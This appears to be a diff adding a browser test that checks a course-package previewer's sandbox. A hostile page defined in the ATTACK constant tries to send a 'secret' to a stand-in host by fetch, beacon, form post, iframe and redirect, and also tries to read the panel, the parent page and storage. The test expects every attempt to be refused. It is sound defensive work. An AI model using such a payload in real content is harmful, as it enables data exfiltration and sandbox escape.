@@ -1,0 +1,103 @@
+"""A package from anywhere in a real browser: it is played like any other, and reaches nothing that is not its own."""
+
+from __future__ import annotations
+
+import threading
+from http.server import BaseHTTPRequestHandler
+from typing import TYPE_CHECKING
+
+import pytest
+from patience import waits_until
+from playwright.sync_api import expect
+from serving import Server
+
+from exporter.preview.loopback import Loopback
+from exporter.preview.session import Play
+from tests.preview.packages_of_others import package_of
+
+if TYPE_CHECKING:
+    from collections.abc import Iterator
+    from pathlib import Path
+
+    from playwright.sync_api import Browser
+
+# Each attempt writes what came of it into the page; what goes somewhere else is seen by the server that is elsewhere.
+ATTACK = """<!doctype html><title>A page</title><body>
+<img src="ELSEWHERE/picture"><script src="ELSEWHERE/script"></script>
+<link rel="stylesheet" href="ELSEWHERE/style"><link rel="prefetch" href="ELSEWHERE/prefetch">
+<form id="form" action="ELSEWHERE/form" method="post" target="inner"></form>
+<iframe name="inner" srcdoc="<p>inside</p>"></iframe><iframe id="away"></iframe>
+<script>
+const tries = {
+  panel: () => fetch("PANEL/state.json").then((reply) => reply.text()),
+  framed: () => top.document.title,
+  stored: () => top.localStorage.length,
+  elsewhere: () => fetch("ELSEWHERE/fetch", { mode: "no-cors" }).then(() => "sent"),
+  worker: () => navigator.serviceWorker.register("worker.js"),
+  opened: () => window.open("ELSEWHERE/opened") || Promise.reject(new Error("refused")),
+  top: () => { top.location = "ELSEWHERE/top"; },
+};
+(async () => {
+  const told = [];
+  for (const [name, attempt] of Object.entries(tries)) {
+    try { told.push(`${name}: ${String(await attempt()).slice(0, 40)}`); } catch { told.push(`${name}: refused`); }
+  }
+  navigator.sendBeacon("ELSEWHERE/beacon", "secret");
+  document.getElementById("form").submit();
+  document.getElementById("away").src = "ELSEWHERE/away?secret";
+  const api = window.parent.API;
+  told.push(`LMS: ${api.LMSInitialize("")}`);
+  told.push(`${api.LMSSetValue("cmi.core.lesson_status", "completed")} ${api.LMSCommit("")}`);
+  location = "ELSEWHERE/location?secret";
+  console.info(`Told: ${told.join(", ")}`);
+})();
+</script>"""
+
+
+@pytest.fixture
+def elsewhere() -> Iterator[tuple[str, list[str]]]:
+    """Serve another site, which remembers what it was asked."""
+    asked: list[str] = []
+    lock = threading.Lock()
+
+    class Elsewhere(BaseHTTPRequestHandler):
+        def do_GET(self) -> None:
+            with lock:
+                asked.append(self.path)
+            self.send_response(204)
+            self.end_headers()
+
+        do_POST = do_GET  # noqa: N815 - the base class wants the name
+
+        def log_message(self, *_: object) -> None:
+            pass
+
+    with Server(Elsewhere) as server:
+        yield f"http://127.0.0.1:{server.server_port}", asked
+
+
+def test_a_hostile_package_reaches_nothing_but_the_lms(
+    browser: Browser, elsewhere: tuple[str, list[str]], tmp_path: Path
+) -> None:
+    """No other site, not the panel, no other window: only the run-time that every package looks for."""
+    address, asked = elsewhere
+    panel = Loopback()  # a port that is free, to write into the package before it is played
+    panel.close()
+    path = tmp_path / "hostile.zip"
+    page_of_it = ATTACK.replace("ELSEWHERE", address).replace("PANEL", panel.origin)
+    path.write_bytes(package_of({"index.html": page_of_it, "worker.js": "self.addEventListener('fetch', () => {});"}))
+    told: list[str] = []
+    with Play(path, panel.port, network=False) as play:
+        assert play.panel.origin == panel.origin
+        page = browser.new_page()
+        page.on("console", lambda message: told.append(message.text))
+        page.goto(f"{play.panel.origin}/")
+        assert waits_until(lambda: [line for line in told if line.startswith("Told: ")] or page.wait_for_timeout(20))
+        expect(page.locator("#sentence")).to_contain_text("Completed")
+        assert page.url == f"{play.panel.origin}/"
+        assert len(page.context.pages) == 1
+        page.close()
+    (result,) = [line for line in told if line.startswith("Told: ")]
+    tried = ("panel", "framed", "stored", "elsewhere", "worker", "opened", "top")
+    assert result == "Told: " + "".join(f"{name}: refused, " for name in tried) + "LMS: true, true true"
+    assert asked == []
